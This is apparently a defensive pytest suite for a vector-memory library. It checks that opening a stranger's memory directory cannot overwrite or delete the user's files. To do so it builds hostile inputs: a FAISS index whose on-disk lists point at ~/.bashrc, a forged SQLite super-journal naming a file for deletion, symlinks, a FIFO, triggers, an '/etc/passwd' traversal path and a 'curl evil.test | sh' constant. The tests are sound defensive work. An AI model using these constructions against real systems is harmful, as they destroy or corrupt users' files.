"""A memory directory that a stranger made: opening it reads it, and nothing more."""

from __future__ import annotations

import hashlib
import json
import logging
import os
import sqlite3
import struct
from contextlib import closing
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from safetensors.numpy import load_file, save_file
from sqlalchemy import text

from memedit.core.errors import MemoryStoreError
from memedit.memory import EditMemory
from memedit.memory.journal.sqlite import open_engine
from memedit.memory.live import snapshots
from memedit.memory.live import state as live_module
from memedit.memory.live.index import VectorIndex, faiss
from memedit.memory.store import Store
from memedit.serving.ledger.tables import Tables
from tests.memory.helpers import CountingEncoder, capital, sound

PLANTED = "curl evil.test | sh\n"


@pytest.fixture
def path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    small = {"upto": None, "flat_limit": 60}
    monkeypatch.setattr(live_module.LiveSet.__init__, "__kwdefaults__", small)
    with EditMemory(tmp_path / "memory", CountingEncoder()) as memory:
        memory.add_many([capital(f"Land {i}") for i in range(100)])
    return tmp_path / "memory"


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    """What a user has elsewhere, and would miss."""
    file = tmp_path / ".bashrc"
    file.write_text("# mine\n" + "export A=1\n" * 40)
    return file


def manifest(path: Path) -> Path:
    return path / "index" / "manifest.json"


def identity(path: Path) -> dict[str, Any]:
    with EditMemory(path, CountingEncoder(), read_only=True) as memory:
        store: Store = memory._store
        with store.journal.read():
            return store.journal.identity() | {"event": list(store.journal.read_last_event())}


def on_disk(victim: Path, scratch: Path) -> bytes:
    """An IVF index of FAISS's own format whose inverted lists lie in the file ``victim``."""
    quantizer = faiss.IndexFlatIP(64)
    index = faiss.IndexIVFFlat(quantizer, 64, 2, faiss.METRIC_INNER_PRODUCT)
    vectors = np.eye(64, dtype=np.float32)[:10]
    index.train(vectors)
    own = str(scratch).ljust(len(str(victim)), "x")[: len(str(victim))]
    assert len(own) == len(str(victim))
    lists = faiss.OnDiskInvertedLists(2, index.code_size, own)
    index.replace_invlists(lists)
    index.add_with_ids(vectors, np.arange(1, 11))
    content: bytes = faiss.serialize_index(index).tobytes()
    return content.replace(own.encode(), str(victim).encode())


@pytest.mark.parametrize("format", [1, 2, 3, 4, 5])
def test_a_snapshot_that_names_another_file_never_reaches_it(
    path: Path, victim: Path, tmp_path: Path, format: int
) -> None:
    """FAISS would map the file that its bytes name, and write into it."""
    content = on_disk(victim, tmp_path / "s")
    hashed = hashlib.sha256(content).hexdigest()
    for suffix in (".faiss", ".safetensors"):
        (path / "index" / f"{hashed[:20]}{suffix}").write_bytes(content)
    part = {"sha256": hashed, "count": 10, "trained_on": 10}
    planted = {"format": format, **identity(path), "indexes": {"default": part}}
    manifest(path).write_text(json.dumps(snapshots.seal(planted)))
    before = victim.read_bytes()
    with EditMemory(path, CountingEncoder()) as memory:
        memory.add(capital("Chad"))
        memory.snapshot()
        assert sound(memory) and len(memory) == 101
    assert victim.read_bytes() == before


@pytest.mark.parametrize("format", [1, 2, 3, 4, 5])
def test_not_even_where_a_key_stands_in_that_file(
    path: Path, victim: Path, tmp_path: Path, format: int
) -> None:
    """The fault, as it was done to the code before: a key of the stranger's journal has for its id
    what eight bytes of the user's file are as a number, so the index counted as the memory's; the
    other keys were then put into it, over the file's other bytes."""
    victim.write_text("# mine\n" + "export A=1\n" * 4_000)
    before, mark = victim.read_bytes(), 0x1122334455667788
    index = faiss.IndexIVFFlat(faiss.IndexFlatIP(64), 64, 2, faiss.METRIC_INNER_PRODUCT)
    index.train(np.eye(64, dtype=np.float32)[:10])
    own = str(tmp_path / "s").ljust(len(str(victim)), "x")
    lists = faiss.OnDiskInvertedLists(2, index.code_size, own)
    index.replace_invlists(lists)
    index.add_with_ids(np.eye(64, dtype=np.float32)[:1], np.array([mark]))
    at = Path(own).read_bytes().index(mark.to_bytes(8, "little"))
    known = int.from_bytes(before[at : at + 8], "little")
    content = faiss.serialize_index(index).tobytes().replace(own.encode(), str(victim).encode())
    with closing(sqlite3.connect(path / "journal.sqlite")) as journal, journal:
        journal.execute("UPDATE keys SET id = ? WHERE id = (SELECT max(id) FROM keys)", (known,))
    hashed = hashlib.sha256(content).hexdigest()
    for suffix in (".faiss", ".safetensors"):
        (path / "index" / f"{hashed[:20]}{suffix}").write_bytes(content)
    part = {"sha256": hashed, "count": 1, "trained_on": 1_000_000}
    planted = {"format": format, **identity(path), "indexes": {"default": part}}
    manifest(path).write_text(json.dumps(snapshots.seal(planted)))
    with EditMemory(path, CountingEncoder()) as memory:
        assert len(memory) == 100
    assert victim.read_bytes() == before


def test_snapshots_of_the_old_format_are_swept_not_read(path: Path) -> None:
    old = path / "index" / "0123.faiss"
    old.write_bytes(b"IwFl")
    with EditMemory(path, CountingEncoder()) as memory:
        memory.snapshot()
    assert not old.exists() and list((path / "index").glob("*.safetensors"))


def _reseal(path: Path, arrays: dict[str, Any], **about: Any) -> None:
    """The stranger's own hash over changed arrays: it proves nothing."""
    content = json.loads(manifest(path).read_text())
    part = content["indexes"]["default"]
    file = path / "index" / "new.safetensors"
    save_file(arrays, file)
    part |= {"sha256": hashlib.sha256(file.read_bytes()).hexdigest(), **about}
    file.rename(path / "index" / f"{part['sha256'][:20]}.safetensors")
    manifest(path).write_text(json.dumps(snapshots.seal(content)))


def _changed(name: str, array: Any) -> dict[str, Any]:
    return {
        "ids twice": {"ids": np.repeat(array["ids"][::2], 2)},
        "ids below zero": {"ids": -array["ids"]},
        "ids of another type": {"ids": array["ids"].astype(np.int32)},
        "ids too few": {"ids": array["ids"][1:].copy()},
        "cells that are not there": {"cells": array["cells"] + 1_000_000},
        "cells below zero": {"cells": array["cells"] - 1_000_000},
        "cells of another type": {"cells": array["cells"].astype(np.int64)},
        "no centroids": {"centroids": array["centroids"][:0].copy()},
        "narrow centroids": {"centroids": array["centroids"][:, 1:].copy()},
        "vectors that are no numbers": {"vectors": array["vectors"] * np.float32("nan")},
        "vectors of full precision": {"vectors": array["vectors"].astype(np.float32)},
        "narrow vectors": {"vectors": array["vectors"][:, 1:].copy()},
    }[name]


@pytest.mark.parametrize(
    "what",
    ["ids twice", "ids below zero", "ids of another type", "ids too few",
     "cells that are not there", "cells below zero", "cells of another type", "no centroids",
     "narrow centroids", "vectors that are no numbers", "vectors of full precision",
     "narrow vectors"],
)  # fmt: skip
def test_arrays_that_do_not_fit_are_rebuilt(
    path: Path, what: str, caplog: pytest.LogCaptureFixture
) -> None:
    part = json.loads(manifest(path).read_text())["indexes"]["default"]
    file = path / "index" / f"{part['sha256'][:20]}.safetensors"
    arrays = load_file(file)
    _reseal(path, arrays | _changed(what, arrays))
    with caplog.at_level(logging.WARNING, "memedit"), EditMemory(path, CountingEncoder()) as memory:
        assert sound(memory)
    assert "is unusable" in caplog.text


@pytest.mark.parametrize(
    "about",
    [{"trained_on": -1}, {"trained_on": 1 << 62}, {"trained_on": "9"}, {"count": 1 << 40},
     {"sha256": "../../../../etc/passwd"}, {"sha256": "A" * 64}, {"sha256": None}],
)  # fmt: skip
def test_a_manifest_that_says_what_cannot_be_is_rebuilt(
    path: Path, about: dict[str, Any], caplog: pytest.LogCaptureFixture
) -> None:
    content = json.loads(manifest(path).read_text())
    content["indexes"]["default"] |= about
    manifest(path).write_text(json.dumps(snapshots.seal(content)))
    with caplog.at_level(logging.WARNING, "memedit"), EditMemory(path, CountingEncoder()) as memory:
        assert sound(memory)
    assert "is unusable" in caplog.text


@pytest.mark.parametrize("event", [1 << 63, 1 << 70, -1, True, 0.5, [], {}])
def test_an_event_no_database_has(path: Path, event: Any) -> None:
    content = json.loads(manifest(path).read_text())
    manifest(path).write_text(json.dumps(snapshots.seal(content | {"event": [event, "2020"]})))
    with EditMemory(path, CountingEncoder()) as memory:
        assert sound(memory)


@pytest.mark.parametrize("text", ["[" * 200_000, '{"a":' * 200_000, "1" * 10_000, "{}", ""])
def test_a_manifest_that_is_none(path: Path, text: str) -> None:
    manifest(path).write_text(text)
    with EditMemory(path, CountingEncoder()) as memory:
        assert sound(memory)


def test_sizes_are_compared_with_the_file_before_anything_is_allocated(
    path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A header that promises 4 TB in a file of some bytes."""
    header = json.dumps(
        {"vectors": {"dtype": "F32", "shape": [1 << 34, 64], "data_offsets": [0, 1 << 42]}}
    ).encode()
    huge = len(header).to_bytes(8, "little") + header + b"\0" * 100
    hashed = hashlib.sha256(huge).hexdigest()
    (path / "index" / f"{hashed[:20]}.safetensors").write_bytes(huge)
    content = json.loads(manifest(path).read_text())
    content["indexes"]["default"] |= {"sha256": hashed, "count": 1 << 34}
    manifest(path).write_text(json.dumps(snapshots.seal(content)))
    monkeypatch.setattr(VectorIndex, "from_arrays", lambda *_, **__: pytest.fail("was read"))
    with caplog.at_level(logging.WARNING, "memedit"), EditMemory(path, CountingEncoder()) as memory:
        assert sound(memory)
    assert "is unusable" in caplog.text


def _names() -> list[str]:
    return [
        "journal.sqlite", "index", "index/manifest.json", f"index/manifest.json.{os.getpid()}.tmp",
        "model.json", "audit.jsonl", "serving.sqlite3", "journal.sqlite-wal",
        "serve-key",
    ]  # fmt: skip


@pytest.mark.parametrize("name", _names(), ids=lambda name: name.replace(str(os.getpid()), "PID"))
def test_links_in_a_memory_lead_nowhere(path: Path, victim: Path, name: str) -> None:
    target = victim.parent if name == "index" else victim
    link = path / name
    if name == "index":
        (path / "index").rename(path / "elsewhere")
    link.unlink(missing_ok=True)
    link.symlink_to(target)
    before = victim.read_bytes(), sorted(victim.parent.iterdir())
    with pytest.raises(MemoryStoreError, match="is a link"):
        EditMemory(path, CountingEncoder())
    assert (victim.read_bytes(), sorted(victim.parent.iterdir())) == before


def test_a_pipe_in_a_memory_is_not_waited_for(path: Path) -> None:
    manifest(path).unlink()
    os.mkfifo(path / "index" / "manifest.json")
    with pytest.raises(MemoryStoreError, match="device or pipe"):
        EditMemory(path, CountingEncoder())


def test_a_folder_that_became_a_link_meanwhile_is_not_swept(
    path: Path, victim: Path, caplog: pytest.LogCaptureFixture
) -> None:
    precious = victim.parent / "precious.faiss"
    precious.write_text("mine")
    with EditMemory(path, CountingEncoder()) as memory:
        (path / "index").rename(path / "elsewhere")
        (path / "index").symlink_to(victim.parent)
        memory.add(capital("Chad"))
        with pytest.raises(MemoryStoreError, match="is a link"):
            memory.snapshot()
        assert sound(memory)
    assert precious.read_text() == "mine" and not (victim.parent / snapshots.MANIFEST).exists()


def _super_journal(database: Path, victim: Path) -> None:
    """Plant the journal of a transaction that, it says, ``victim`` coordinates: no page is rolled
    back, and then the name of that file, which SQLite deletes (its file format, section 3)."""
    page, magic = 4_096, bytes.fromhex("d9d505f920a163d7")
    header = magic + struct.pack(">5I", 0, 1, database.stat().st_size // page, 512, page)
    name = str(victim).encode()
    ending = struct.pack(">I", (1 << 30) // page + 1) + name
    ending += struct.pack(">2I", len(name), sum(name)) + magic
    journal = database.with_name(f"{database.name}-journal")
    journal.write_bytes(header.ljust(512, b"\0") + ending)


@pytest.mark.parametrize("read_only", [False, True])
def test_a_journal_beside_the_file_has_nothing_deleted(
    path: Path, victim: Path, read_only: bool
) -> None:
    """The fault: opening a stranger's memory deleted whatever file of the user they named."""
    with closing(sqlite3.connect(path / "journal.sqlite")) as database:
        database.execute("PRAGMA journal_mode=DELETE")
    _super_journal(path / "journal.sqlite", victim)
    with pytest.raises(MemoryStoreError, match="names another file, which SQLite would delete"):
        EditMemory(path, CountingEncoder(), read_only=read_only)
    assert victim.exists()


def test_nor_beside_a_servers_own_tables(tmp_path: Path, victim: Path) -> None:
    with closing(sqlite3.connect(tmp_path / "serving.sqlite3")) as database:
        database.execute("CREATE TABLE t (a)")
    _super_journal(tmp_path / "serving.sqlite3", victim)
    tables = Tables(tmp_path / "serving.sqlite3")
    with pytest.raises(MemoryStoreError, match="names another file"), tables.open() as db:
        tables.create(db, ["CREATE TABLE IF NOT EXISTS u (a TEXT)"])
    tables.close()
    assert victim.exists()


def test_a_transaction_that_a_crash_left_is_rolled_back(path: Path) -> None:
    """An honest journal of that kind: of a backup that was killed."""
    file = path / "journal.sqlite"
    journal = path / "journal.sqlite-journal"
    with closing(sqlite3.connect(file)) as database:
        database.execute("PRAGMA journal_mode=DELETE")
    database = sqlite3.connect(file, isolation_level=None)
    database.execute("PRAGMA cache_spill=1")
    database.execute("PRAGMA cache_size=1")
    database.execute("BEGIN IMMEDIATE")
    database.execute("UPDATE records SET prompt = prompt || hex(randomblob(2000))")
    torn, left = file.read_bytes(), journal.read_bytes()
    database.execute("ROLLBACK")
    database.close()
    file.write_bytes(torn)
    journal.write_bytes(left)
    with EditMemory(path, CountingEncoder()) as memory:
        assert sound(memory) and len(memory) == 100


ACTIVE = {
    "trigger": "CREATE TRIGGER t AFTER INSERT ON events BEGIN DELETE FROM keys; END",
    "view": "CREATE VIEW v AS SELECT * FROM records",
    "virtual table": "CREATE VIRTUAL TABLE f USING fts5(a)",
    "expression": "CREATE INDEX i ON records (upper(hex(zeroblob(1000)) || id))",
    "arithmetic": "CREATE INDEX i ON records (version+1)",
    "partial index": "CREATE INDEX i ON records (id) WHERE length(prompt) > 0",
    "generated": "CREATE TABLE g (a INTEGER, b AS (abs(a)))",
    "check": "CREATE TABLE g (a INTEGER CHECK (abs(a) > 0))",
    "default": "CREATE TABLE g (a INTEGER DEFAULT (random()))",
}


@pytest.mark.parametrize("what", sorted(ACTIVE))
@pytest.mark.parametrize("read_only", [False, True])
def test_a_journal_that_does_things_is_refused(path: Path, what: str, read_only: bool) -> None:
    with closing(sqlite3.connect(path / "journal.sqlite")) as planted:
        planted.execute(ACTIVE[what])
    with pytest.raises(MemoryStoreError, match="holds what no memedit makes"):
        EditMemory(path, CountingEncoder(), read_only=read_only)


def test_a_servers_own_tables_are_looked_at_too(tmp_path: Path) -> None:
    with closing(sqlite3.connect(tmp_path / "serving.sqlite3")) as planted:
        planted.execute("CREATE TABLE t (a)")
        planted.execute("CREATE TRIGGER x AFTER INSERT ON t BEGIN DELETE FROM t; END")
    tables = Tables(tmp_path / "serving.sqlite3")
    with pytest.raises(MemoryStoreError, match="trigger 'x'"), tables.open() as db:
        tables.create(db, ["CREATE TABLE IF NOT EXISTS u (a TEXT)"])
    tables.close()


def test_what_a_file_defines_calls_no_functions_and_attaches_nothing(tmp_path: Path) -> None:
    engine = open_engine(tmp_path / "x.sqlite", read_only=False)
    with engine.connect() as connection:
        said = {
            name: connection.execute(text(f"PRAGMA {name}")).scalar()
            for name in ("trusted_schema", "cell_size_check")
        }
        assert said == {"trusted_schema": 0, "cell_size_check": 1}
        driver: Any = connection.connection.driver_connection
        if hasattr(driver, "setlimit"):  # Python 3.11
            with pytest.raises(sqlite3.OperationalError, match="too many attached"):
                driver.execute("ATTACH ':memory:' AS other")
    engine.dispose()
